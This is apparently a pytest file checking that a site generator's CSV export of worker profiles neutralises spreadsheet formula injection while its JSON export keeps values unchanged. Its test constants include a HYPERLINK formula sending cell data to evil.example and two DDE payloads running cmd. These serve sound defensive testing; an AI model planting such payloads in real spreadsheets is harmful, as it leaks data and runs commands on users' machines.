"""data/workers.csv opens safely in Excel / WPS: formula-like cells are shown as text, Chinese is not garbled;
data/workers.json keeps the values exactly as the editor wrote them."""

from __future__ import annotations

import csv
import io
import json

from generator.content.loader import load
from generator.site.exports import spreadsheet_safe, workers_csv, workers_json
from minimal_project import profile_path, replace_in, write_project

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


def _yaml_quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def test_formula_cells_are_neutralised_in_csv_and_kept_in_json(tmp_path):
    root = write_project(tmp_path / "project")
    replace_in(profile_path(root), "employer: 测试电力公司", f"employer: {_yaml_quoted(HYPERLINK)}")
    replace_in(profile_path(root), "position: 检修班班长", f"position: {_yaml_quoted(DDE)}")
    replace_in(profile_path(root), "quote: 把每一件小事做好。", f"quote: {_yaml_quoted(AT_FORMULA)}")
    loaded = load(root)
    assert not [p for p in loaded.problems if p.is_error], [p.line() for p in loaded.problems]
    model = loaded.model.public()

    text = workers_csv(model)
    assert text.startswith("\ufeff")                  # UTF-8 BOM: Excel/WPS read the Chinese as UTF-8
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert "\r\n" in text
    header, row = list(csv.reader(io.StringIO(text[1:])))
    cells = dict(zip(header, row))
    assert cells["姓名"] == "王小明"
    assert cells["工作单位"] == "'" + HYPERLINK        # shown as text, the link never becomes a formula
    assert cells["岗位职务"] == "'" + DDE
    # every field is quoted, so a `|` or `,` inside cannot start a new cell
    data_line = text.split("\r\n")[1]
    assert data_line.startswith('"wang-xiaoming","王小明"')
    assert f'"\'{DDE}"' in data_line
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)

    record = json.loads(workers_json(model))["workers"][0]
    assert record["employer"] == HYPERLINK and record["position"] == DDE and record["quote"] == AT_FORMULA


def test_spreadsheet_safe_covers_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"
    for harmless in ("王小明", "2015 浙江省劳动模范", "https://example.org/", "", "'已引用"):
        assert spreadsheet_safe(harmless) == harmless
    assert spreadsheet_safe(None) == ""
